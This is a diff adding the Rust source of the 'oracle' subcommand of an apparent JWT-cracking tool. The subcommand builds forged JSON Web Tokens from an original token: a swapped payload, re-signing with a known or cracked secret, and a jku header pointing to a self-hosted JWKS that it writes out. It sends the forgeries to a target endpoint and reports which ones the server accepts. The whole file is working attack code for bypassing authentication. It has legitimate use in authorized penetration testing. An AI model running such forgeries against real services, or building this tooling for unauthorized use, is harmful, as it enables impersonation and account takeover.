@@ -0,0 +1,228 @@
+//! oracle 子命令：把伪造令牌发给目标接口
+
+use crate::{EXIT_EXHAUSTED, EXIT_FOUND, OutputFormat, parse_duration_arg, parse_json};
+use clap::ValueEnum;
+use jwt_cracker::oracle::{
+    self, Classifier, Forgery, Oracle, RequestTemplate, TokenPlacement, Verdict,
+};
+use jwt_cracker::{Error, Result};
+use regex::Regex;
+use serde_json::json;
+use std::fs;
+use std::path::PathBuf;
+use std::time::Duration;
+
+/// 令牌在请求中的位置
+#[derive(ValueEnum, Clone, Copy, Debug, PartialEq, Eq)]
+enum Placement {
+    /// Authorization: Bearer
+    Bearer,
+    /// 自定义请求头，名称由 --param-name 指定
+    Header,
+    /// Cookie，名称由 --param-name 指定
+    Cookie,
+    /// URL 查询参数，名称由 --param-name 指定
+    Query,
+    /// 只替换 URL、请求头和请求体中的 {{token}}
+    Placeholder,
+}
+
+#[derive(clap::Args, Debug)]
+pub(crate) struct OracleArgs {
+    /// 原始令牌，伪造令牌基于它生成
+    #[arg(short, long)]
+    token: String,
+
+    /// 目标接口，可以包含 {{token}}
+    #[arg(long)]
+    url: String,
+
+    #[arg(short = 'X', long, default_value = "GET")]
+    method: String,
+
+    /// 额外的请求头，格式为 "名称: 值"，可重复指定
+    #[arg(short = 'H', long = "header")]
+    headers: Vec<String>,
+
+    /// 请求体，可以包含 {{token}}
+    #[arg(short, long)]
+    data: Option<String>,
+
+    #[arg(long, value_enum, default_value_t = Placement::Bearer)]
+    placement: Placement,
+
+    /// 请求头、Cookie 或查询参数的名称
+    #[arg(long, default_value = "token")]
+    param_name: String,
+
+    /// 放在自定义请求头中令牌前面的内容
+    #[arg(long, default_value = "")]
+    value_prefix: String,
+
+    /// 代替令牌中的Payload，JSON格式
+    #[arg(short, long)]
+    payload: Option<String>,
+
+    /// 已知或破解出的密钥，会加入重新签名的令牌
+    #[arg(short, long)]
+    secret: Option<String>,
+
+    /// 加入 jku 指向这个地址的令牌
+    #[arg(long, requires = "jwks_out")]
+    jku: Option<String>,
+
+    /// 发送前把 jku 令牌对应的 JWKS 写到这个文件，jku 地址需要返回它的内容
+    #[arg(long, requires = "jku")]
+    jwks_out: Option<PathBuf>,
+
+    /// 一并验证的其它令牌，例如 forge 子命令的输出，可重复指定
+    #[arg(long = "extra-token")]
+    extra_tokens: Vec<String>,
+
+    /// 视为接受的状态码，可重复指定
+    #[arg(long = "accept-status")]
+    accept_status: Vec<u16>,
+
+    /// 视为接受时响应体匹配的正则
+    #[arg(long)]
+    accept_regex: Option<String>,
+
+    /// 响应体长度与基准响应相差超过这么多字节时视为接受
+    #[arg(long)]
+    length_diff: Option<usize>,
+
+    /// 每秒最多发送的请求数，0 为不限速
+    #[arg(long, default_value_t = 5.0)]
+    rate: f64,
+
+    /// 单个请求的超时时间
+    #[arg(long, default_value = "10s", value_parser = parse_duration_arg)]
+    timeout: Duration,
+}
+
+impl OracleArgs {
+    fn template(&self) -> Result<RequestTemplate> {
+        let mut headers = Vec::new();
+        for header in &self.headers {
+            let (name, value) = header.split_once(':').ok_or_else(|| {
+                Error::InvalidConfig(format!("请求头格式应为 \"名称: 值\": {}", header))
+            })?;
+            headers.push((name.trim().to_string(), value.trim().to_string()));
+        }
+        let name = self.param_name.clone();
+        let placement = match self.placement {
+            Placement::Bearer => TokenPlacement::Bearer,
+            Placement::Header => TokenPlacement::Header {
+                name,
+                prefix: self.value_prefix.clone(),
+            },
+            Placement::Cookie => TokenPlacement::Cookie { name },
+            Placement::Query => TokenPlacement::Query { name },
+            Placement::Placeholder => TokenPlacement::Placeholder,
+        };
+        Ok(RequestTemplate {
+            method: self.method.to_ascii_uppercase(),
+            url: self.url.clone(),
+            headers,
+            body: self.data.clone(),
+            placement,
+        })
+    }
+
+    fn classifier(&self) -> Result<Classifier> {
+        let body = match &self.accept_regex {
+            Some(pattern) => Some(
+                Regex::new(pattern)
+                    .map_err(|e| Error::InvalidConfig(format!("无效的正则 {}: {}", pattern, e)))?,
+            ),
+            None => None,
+        };
+        Ok(Classifier {
+            status: self.accept_status.clone(),
+            body,
+            length_tolerance: self.length_diff,
+        })
+    }
+}
+
+pub(crate) fn run_oracle(args: &OracleArgs, output: OutputFormat) -> Result<i32> {
+    let payload = match &args.payload {
+        Some(text) => Some(parse_json("payload", text)?),
+        None => None,
+    };
+    let mut forgeries = oracle::forgeries(
+        &args.token,
+        payload.as_ref(),
+        args.secret.as_deref().map(str::as_bytes),
+        args.jku.as_deref(),
+    )?;
+    for (index, token) in args.extra_tokens.iter().enumerate() {
+        forgeries.push(Forgery::new(
+            &format!("extra_{}", index + 1),
+            token.trim().to_string(),
+        ));
+    }
+    if let Some(path) = &args.jwks_out {
+        let jwks = forgeries
+            .iter()
+            .find_map(|forgery| forgery.hosted_document.as_deref())
+            .unwrap_or_default();
+        fs::write(path, jwks).map_err(|source| Error::Io {
+            path: path.clone(),
+            source,
+        })?;
+        if output == OutputFormat::Text {
+            eprintln!("JWKS 已写到 {}", path.display());
+        }
+    }
+    let mut oracle = Oracle::new(
+        args.template()?,
+        args.classifier()?,
+        args.rate,
+        args.timeout,
+    )?;
+    let verdicts = oracle.probe(&args.token, &forgeries, |verdict| {
+        if output == OutputFormat::Jsonl {
+            output.print(&verdict.to_json());
+        } else if output == OutputFormat::Text {
+            println!(
+                "{:<20} {:>4} {:>8} {}",
+                verdict.forgery.name,
+                verdict.response.status,
+                verdict.response.body.len(),
+                if verdict.accepted { "接受" } else { "拒绝" }
+            );
+        }
+    })?;
+
+    let original_accepted = verdicts.first().is_some_and(|v| v.accepted);
+    let accepted: Vec<&Verdict> = verdicts
+        .iter()
+        .filter(|v| v.accepted && v.forgery.name != "original")
+        .collect();
+    match output {
+        OutputFormat::Text => {
+            if !original_accepted {
+                eprintln!("警告: 原始令牌也没有被接受，请检查请求模板和判定条件");
+            }
+            if accepted.is_empty() {
+                println!("没有伪造令牌被接受");
+            } else {
+                println!("被接受的伪造令牌:");
+                for verdict in &accepted {
+                    println!("  {}: {}", verdict.forgery.name, verdict.forgery.token);
+                }
+            }
+        }
+        OutputFormat::Json => output.print(&json!({
+            "original_accepted": original_accepted,
+            "results": verdicts.iter().map(Verdict::to_json).collect::<Vec<_>>(),
+        })),
+        OutputFormat::Jsonl => {}
+    }
+    Ok(if accepted.is_empty() {
+        EXIT_EXHAUSTED
+    } else {
+        EXIT_FOUND
+    })
+}